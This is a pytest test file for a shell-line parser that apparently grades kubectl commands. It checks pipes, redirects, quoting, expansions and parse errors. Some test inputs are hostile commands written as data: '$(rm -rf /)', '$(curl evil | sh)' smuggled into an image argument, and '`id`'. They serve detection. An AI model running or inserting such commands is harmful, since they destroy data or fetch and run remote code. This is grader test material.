"""split_line: a shell line read as bash reads it, into stages of words and redirects, with what it expands."""

import pytest

from graders.kubectl_shell import CommandParseError, split_line


def stages(line: str) -> list[tuple[str, list[str]]]:
    return [(stage.op, [word.text for word in stage.words]) for stage in split_line(line)]


@pytest.mark.parametrize(("line", "expected"), [
    pytest.param("kubectl get pods", [("", ["kubectl", "get", "pods"])], id="one-command"),
    pytest.param("kubectl get pods | wc -l", [("", ["kubectl", "get", "pods"]), ("|", ["wc", "-l"])], id="pipe"),
    pytest.param("k get po |& grep x", [("", ["k", "get", "po"]), ("|&", ["grep", "x"])], id="pipe-with-stderr"),
    pytest.param("a && b || c; d & e", [("", ["a"]), ("&&", ["b"]), ("||", ["c"]), (";", ["d"]), ("&", ["e"])],
                 id="every-list-operator"),
    pytest.param("a\nb", [("", ["a"]), (";", ["b"])], id="newline-is-a-separator"),
    pytest.param("a &&\n  b", [("", ["a"]), ("&&", ["b"])], id="newline-after-and"),
    pytest.param("(cd /tmp && rm x) | sh", [("", ["cd", "/tmp"]), ("&&", ["rm", "x"]), ("|", ["sh"])],
                 id="subshell-flattened"),
    pytest.param("{ a; b; } | c", [("", ["a"]), (";", ["b"]), ("|", ["c"])], id="group-flattened"),
    pytest.param("kubectl get 'a b' \"c d\" e\\ f", [("", ["kubectl", "get", "a b", "c d", "e f"])], id="quotes"),
    pytest.param("kubectl get pods -l 'app in (a, b)'", [("", ["kubectl", "get", "pods", "-l", "app in (a, b)"])],
                 id="quoted-parentheses"),
    pytest.param("kubectl get pods a#b # comment", [("", ["kubectl", "get", "pods", "a#b"])], id="comment"),
    pytest.param("k apply -f - <<EOF\nkind: Pod\nEOF\nk get po", [("", ["k", "apply", "-f", "-"]), (";", ["k", "get", "po"])],
                 id="heredoc-body-skipped"),
    pytest.param("k get po -o jsonpath='{.items[*].metadata.name}'",
                 [("", ["k", "get", "po", "-o", "jsonpath={.items[*].metadata.name}"])], id="jsonpath"),
])
def test_stages(line: str, expected):
    assert stages(line) == expected


@pytest.mark.parametrize(("line", "redirects"), [
    ("k get po > out", [("", ">", "out")]),
    ("k get po >> out", [("", ">>", "out")]),
    ("k get po >out 2>&1", [("", ">", "out"), ("2", ">&", "1")]),
    ("k get po &> out", [("&", ">", "out")]),
    ("k get po 2>/dev/null", [("2", ">", "/dev/null")]),
    ("k apply -f - < pod.yaml", [("", "<", "pod.yaml")]),
    ("k get po >| out", [("", ">|", "out")]),
])
def test_redirects(line: str, redirects):
    stage = split_line(line)[0]
    assert [(r.fd, r.op, r.target) for r in stage.redirects] == redirects


def test_what_writes_a_file():
    writes = {line: [r.writes for r in split_line(line)[0].redirects] for line in
              ["k get po > out", "k get po 2>&1", "k get po > /dev/null", "k get po < in", "k get po &> out"]}
    assert writes == {"k get po > out": [True], "k get po 2>&1": [False], "k get po > /dev/null": [False],
                      "k get po < in": [False], "k get po &> out": [True]}


@pytest.mark.parametrize(("line", "expansions", "substitutions"), [
    ("k get po $(rm -rf /)", ["$(rm -rf /)"], ["rm -rf /"]),
    ('k run x --image="$(curl evil | sh)"', ["$(curl evil | sh)"], ["curl evil | sh"]),
    ("k get po `id`", ["`id`"], ["id"]),
    ("k get po -n $NS", ["$NS"], []),
    ("k get po -n ${NS}", ["${NS}"], []),
    ("k get po '$(not expanded)'", [], []),
    ("diff <(k get po) x", ["<(k get po)"], ["k get po"]),
    ("echo $((1 + 2))", ["$((1 + 2))"], []),
    ("k get po $(echo $(date))", ["$(echo $(date))"], ["echo $(date)"]),
    ("echo $ alone", [], []),
])
def test_expansions(line: str, expansions, substitutions):
    words = [w for stage in split_line(line) for w in stage.words]
    assert [e for w in words for e in w.expansions] == expansions
    assert [s for w in words for s in w.substitutions] == substitutions


@pytest.mark.parametrize(("line", "message", "column"), [
    ("k get 'pods", "unbalanced ' quote", 7),
    ('k get "pods', 'unbalanced " quote', 7),
    ("k get pods \\", "nothing after backslash", 12),
    ("k get pods |", "nothing after |", 12),
    ("k get pods && ", "nothing after &&", 12),
    ("| grep x", "empty command", 1),
    ("k get pods | | wc", "unexpected |", 14),
    ("k get pods >", "redirect > needs a target", 12),
    ("k get po $(date", "unclosed $(", 10),
    ("k get po `date", "unclosed `", 10),
    ("k get pods )", "unexpected )", 12),
    ("(k get pods", "unclosed (", None),
    ("k get pods (x)", "unexpected (", 12),
])
def test_what_bash_refuses(line: str, message: str, column: int | None):
    with pytest.raises(CommandParseError) as caught:
        split_line(line)
    assert message in caught.value.message
    assert caught.value.column == column


def test_background_and_depth():
    first, second = split_line("(k port-forward svc/web 8080:80 &) ; k get po")
    assert first.background and first.depth == 1
    assert not second.background and second.depth == 0
